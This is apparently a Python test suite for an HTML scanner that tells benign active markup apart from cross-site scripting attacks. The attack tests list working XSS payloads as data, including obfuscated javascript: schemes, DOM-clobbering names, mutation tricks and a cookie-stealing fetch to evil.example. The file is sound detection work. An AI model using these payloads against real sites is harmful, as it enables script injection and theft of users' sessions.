"""What is active in a source is told with its place: a fact where honest pages have it, else an attack."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copydesk.intake import active
from copydesk.model import Finding
from copydesk.scan import page_caps, scan
from copydesk.settings import DEFAULTS

PAGE = "<!doctype html><html><head><title>x</title></head><body>{}</body></html>"


def observe(html: str) -> dict[str, Finding]:
    return {finding.rule: finding for finding in active.observe(scan(html, page_caps(DEFAULTS)))}


@pytest.mark.parametrize(
    ("html", "rule"),
    [
        pytest.param("<script>var menu = 1;</script>", "markup.script", id="script"),
        pytest.param("<script src=/menu.js></script>", "markup.script", id="script by reference"),
        pytest.param("<a onclick='return toggle(this)'>x</a>", "markup.event_handler", id="handler"),
        pytest.param("<img onerror='this.src=\"/none.png\"'>", "markup.event_handler", id="picture that is not there"),
        pytest.param("<a href='javascript:void(0)'>x</a>", "markup.script_url", id="link that does nothing"),
        pytest.param("<a href='javascript:window.print()'>x</a>", "markup.script_url", id="link that prints"),
        pytest.param("<iframe src=https://video.example/1></iframe>", "markup.frame", id="frame"),
        pytest.param("<form action=/search><input name=q></form>", "markup.form", id="form"),
        pytest.param("<style>p{color:red}</style>", "markup.style", id="style"),
        pytest.param("<!--[if IE]><p>x</p><![endif]-->", "markup.conditional_comment", id="conditional comment"),
        pytest.param('<meta http-equiv="refresh" content="0; url=/x">', "markup.meta_refresh", id="refresh"),
        pytest.param(
            "<button onclick=\"alert('Your comment was sent to the desk.')\">x</button>",
            "markup.event_handler",
            id="box",
        ),
    ],
)
def test_what_honest_pages_have_is_a_fact(html: str, rule: str) -> None:
    """A page full of it is no attack."""
    found = observe(PAGE.format(html))
    assert list(found) == [rule]
    assert found[rule].severity == "info"


@pytest.mark.parametrize(
    ("html", "trick"),
    [
        pytest.param("<img src=x onerror=alert(1)>", "probing_handler", id="handler that fires alone"),
        pytest.param("<p onclick='alert(document.domain)'>x", "probing_handler", id="handler that tries"),
        pytest.param("<svg/onload=eval(name)>", "probing_handler", id="handler without a space"),
        pytest.param("<body onpageshow=fetch('//evil.example/'+document.cookie)>", "probing_handler", id="thief"),
        pytest.param("<a href='javascript:alert(1)'>x", "probing_address", id="address that tries"),
        pytest.param("<a href='javascript:%61lert(1)'>x", "probing_address", id="address that tries, escaped"),
        pytest.param("<a href='java&#x0A;script:x()'>x", "disguised_address", id="line break in the scheme"),
        pytest.param("<a href='&#106;avascript:x()'>x", "disguised_address", id="reference in the scheme"),
        pytest.param("<a href='vbscript:x'>x", "scripting_address", id="another scheme"),
        pytest.param("<iframe src='data:text/html,x'>", "document_in_address", id="document in an address"),
        pytest.param("<script src='data:text/javascript,x'></script>", "script_from_data", id="script in an address"),
        pytest.param("<script>alert(1)</script>", "probing_script", id="script that tries"),
        pytest.param("<iframe srcdoc='<script>alert(1)</script>'>", "script_in_frame", id="script in a frame"),
        pytest.param("<p title='</style><img src=x onerror=a()>'>", "markup_in_attribute", id="mutation"),
        pytest.param("<form><input name=attributes></form>", "clobbering_name", id="clobbering"),
        pytest.param(f"<img onerror{' ' * 99}=alert(1)>", "probing_handler", id="a handler far from its code"),
        pytest.param("<script data-type=json>alert(1)</script>", "probing_script", id="script of no type"),
        pytest.param(f"<a href='{' ' * 999}javascript:alert(1)'>", "probing_address", id="blanks before the scheme"),
        pytest.param(f"<a href='java{chr(10) * 999}script:x()'>", "disguised_address", id="lines in the scheme"),
        pytest.param(f"<iframe src='{' ' * 999}data:text/html,x'>", "document_in_address", id="blanks before data"),
        pytest.param("<img name=attributes style='a:b'>", "clobbering_name", id="clobbering beside a style"),
        pytest.param("<a\nid\n=\nchildren>", "clobbering_name", id="clobbering over lines"),
        pytest.param('<a id="children" class="a">', "clobbering_name", id="clobbering, plainly written"),
        pytest.param("<p style='width:expression(x())'>", "script_in_style", id="script in a style"),
        pytest.param("<math><mtext><mglyph><style>", "foreign_markup", id="elements that change namespace"),
        pytest.param(
            '<meta http-equiv=refresh content="0;url=javascript:x()">', "script_in_refresh", id="refresh that runs"
        ),
    ],
)
def test_what_only_attacks_write_is_an_attack(html: str, trick: str) -> None:
    """The finding names the trick and quotes the tag."""
    finding = observe(PAGE.format(html))["markup.attack"]
    assert finding.severity == "high"
    assert trick in [entry.name for entry in finding.evidence]
    assert finding.spans[0].text in html


@pytest.mark.parametrize(
    ("html", "found"),
    [
        pytest.param("<p>a</p><script>count()</script>", True, id="script with content"),
        pytest.param("<p>a</p><a href='javascript:show(1)'>x</a>", True, id="address that does something"),
        pytest.param(
            "<p>a</p><script async src='https://posts.example/w.js'></script>", False, id="script of an embed"
        ),
        pytest.param("<p>a</p><script type='application/ld+json'>{}</script>", False, id="data"),
        pytest.param("<p>a</p><img onerror='this.remove()'>", False, id="picture that is not there"),
        pytest.param("<p>a</p><a href='javascript:;'>x</a>", False, id="link that does nothing"),
    ],
)
def test_code_in_an_article_without_a_page_is_told(html: str, *, found: bool) -> None:
    """Where there is no page around, nothing has to run."""
    assert ("markup.active_fragment" in observe(html)) == found
    assert "markup.active_fragment" not in observe(PAGE.format(html))


def test_spans_are_offsets_in_the_source() -> None:
    """Each span's text is the source's slice at its place."""
    html = PAGE.format("é<script>1</script><p onclick=a()>x")
    for finding in observe(html).values():
        for span in finding.spans:
            assert html[span.start : span.end].startswith(span.text)


@pytest.mark.parametrize(
    "piece", ["<a onclick='", "<a href='javascript:%6", "<p onx=", "<script>alert(", "<p style='/*", "&#1", "<i on"]
)
def test_a_megabyte_of_anything_is_observed_in_linear_time(piece: str) -> None:
    """No piece, repeated to a megabyte, within one attribute or in many tags, takes longer than two seconds."""
    for html in (
        piece * (1_000_000 // len(piece)),
        f'<p onload="{piece.replace(chr(34), "") * (1_000_000 // len(piece))}">',
    ):
        start = time.process_time()
        list(active.observe(scan(html, page_caps(DEFAULTS))))
        assert time.process_time() - start < 2


NAMES = "p a img input meta use set button form annotation-xml svg script iframe mglyph".split()
GIVEN = (
    'class="a"', 'id="children"', 'name="attributes"', 'href="https://news.example/?a=1&b=2"', 'to="Java Script :x"',
    'href="java\nscript:alert(1)"', 'href="scr\x01ipt:x"', 'href=" jav\u200bascript:x"', 'src="mocha&colon;x"',
    'alt="</style><script onload=x>"', 'alt="&lt;script onload=x>"', 'alt="&nvlt;b"', 'content="0;url=javascript:x"',
    'content="--><img `onerror=alert(1)>"', 'title=" once = 3 "', 'alt="srcdoc"', 'alt="/* style"',
    'src="data:text/html,x"', 'encoding="text/html"', 'data-x="script:"', 'alt="data: y"', 'values="expre\u017fsion("',
)  # fmt: skip


@given(st.sampled_from(NAMES), st.lists(st.sampled_from(GIVEN), max_size=5))
def test_what_is_passed_over_has_nothing_to_tell(name: str, given_: list[str]) -> None:
    """A tag with plain attributes tells the same, whether it is looked at closely or not."""
    tags = scan(f"<{' '.join([name, *given_])}>alert(1)", page_caps(DEFAULTS))
    close = replace(tags, odd=list(range(len(tags.names))))
    assert list(active.pieces(tags)) == list(active.pieces(close))
